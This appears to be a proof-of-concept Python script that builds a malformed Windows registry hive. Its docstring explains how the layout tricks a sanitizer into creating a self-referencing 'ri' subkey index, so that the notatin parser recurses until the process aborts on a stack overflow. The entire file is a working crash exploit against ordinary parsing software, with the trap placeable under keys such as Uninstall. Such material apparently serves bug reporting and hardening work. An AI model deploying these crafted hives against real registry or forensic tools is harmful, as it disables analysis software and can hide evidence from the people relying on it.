#!/usr/bin/env python3
"""Builds a hive in which `guard::sanitize` itself creates a self-referencing
nested `ri` subkey index, which notatin then follows until the stack overflows:

    python3 make-clamp-nested-ri.py OUT [PATH]

PATH (default: none) is the `\\`-separated path of the trapped key, e.g.
`Microsoft\\Windows\\CurrentVersion\\Uninstall` to put it where the Uninstall
collector lists subkeys; the trap is its last component.

How: the root key's `nk` cell (offset 0x20) hides, in its timestamp and access
bits, an `ri` cell at offset 0x28 whose one item is 0x28 itself. The guard never
looks at it: nothing references it. Key T (the trapped key) has an `ri` subkey
list that lies inside sibling key B's `nk` cell: its item 0 is B's subkey count
(41, a misaligned offset), item 1 is B's volatile-count field (a valid `lf`
list with one child). The guard walks T first and cuts item 0 (writes CUT over
B's count), keeping the valid child. Then it walks B: the count reads
0xffffefff, B's own `lf` list has 40 valid children, so it clamps the count to
40 = 0x28, written over T's item 0: T's `ri` now holds the `ri` at 0x28, which
holds itself. notatin's `SubKeyListRi::parse_offsets` ->
`CellKeyNode::parse_sub_key_list` recursion never ends: a stack overflow that
`catch_unwind` cannot stop; the process aborts.
"""
import struct
import sys

out = sys.argv[1]
path = [p for p in (sys.argv[2] if len(sys.argv) > 2 else "").split("\\") if p]
trap_name = path[-1] if path else "T"
cells, cur = {}, [0x20]


def alloc(size):
    r = cur[0]
    cur[0] += (size + 7) & ~7
    return r


def nk(name, flags=0x20, subcount=0, volcount=0, sublist=0xFFFFFFFF, raw14=None, ts=None, access=0xFFFFFFF0):
    b = bytearray(0x60)
    struct.pack_into("<i", b, 0, -0x60)
    b[4:6] = b"nk"
    struct.pack_into("<H", b, 6, flags)
    if ts is not None:
        b[8:16] = ts
    struct.pack_into("<I", b, 0x10, access)
    if raw14 is not None:
        b[0x14:0x18] = raw14
    struct.pack_into("<IIII", b, 0x18, subcount, volcount, sublist, 0xFFFFFFFF)
    struct.pack_into("<IIII", b, 0x28, 0, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    nm = name.encode()
    struct.pack_into("<HH", b, 0x4C, len(nm), 0)
    b[0x50:0x50 + len(nm)] = nm
    return b


def lf(children):
    size = 8 + 8 * len(children)
    b = bytearray(size)
    struct.pack_into("<i", b, 0, -size)
    b[4:6] = b"lf"
    struct.pack_into("<H", b, 6, len(children))
    for i, c in enumerate(children):
        struct.pack_into("<I4s", b, 8 + 8 * i, c, b"K\0\0\0")
    return b


N = 40  # = 0x28: the offset of the self-referencing ri inside the root's nk
R = alloc(0x60)
assert R == 0x20
chain = [alloc(0x60) for _ in path[:-1]]  # keys on the way down
T, B, C = alloc(0x60), alloc(0x60), alloc(0x60)
D = [alloc(0x60) for _ in range(N)]
LB, L1 = alloc(8 + 8 * N), alloc(16)
lists = [alloc(16) for _ in chain]
LP = alloc(24)  # the trapped key's parent's list: [B, T] (T is walked first)
# size -16, "ri", 1 item, in the timestamp; the item, 0x28, in the access bits.
hidden_ri = struct.pack("<i2sH", -16, b"ri", 1)
parents = [R] + chain
for i, k in enumerate(parents):
    nxt = lists[i] if i < len(chain) else LP
    name = "ROOT" if k == R else path[i - 1]
    kw = dict(flags=0x2C, ts=hidden_ri, access=0x28) if k == R else {}
    cells[k] = nk(name, subcount=1 if i < len(chain) else 2, sublist=nxt, **kw)
    if i < len(chain):
        cells[lists[i]] = lf([chain[i]])
cells[LP] = lf([B, T])
cells[T] = nk(trap_name, subcount=1, sublist=B + 0x10)  # T's ri list lies inside B's nk
cells[B] = nk("B", raw14=b"ri\x02\x00", subcount=N + 1, volcount=L1, sublist=LB)
cells[C] = nk("C")
for k in range(N):
    cells[D[k]] = nk("D%d" % k)
cells[LB] = lf(D)
cells[L1] = lf([C])
binsize = (cur[0] + 0xFFF) & ~0xFFF
hb = bytearray(binsize)
hb[0:4] = b"hbin"
struct.pack_into("<II", hb, 4, 0, binsize)
for r, b in cells.items():
    hb[r:r + len(b)] = b
if binsize - cur[0] >= 8:
    struct.pack_into("<i", hb, cur[0], binsize - cur[0])
base = bytearray(0x1000)
base[0:4] = b"regf"
struct.pack_into("<IIQIIIIIII", base, 4, 1, 1, 0, 1, 5, 0, 1, R, binsize, 1)
cs = 0
for i in range(127):
    cs ^= struct.unpack_from("<I", base, 4 * i)[0]
struct.pack_into("<I", base, 0x1FC, cs)
with open(out, "wb") as f:
    f.write(bytes(base + hb))
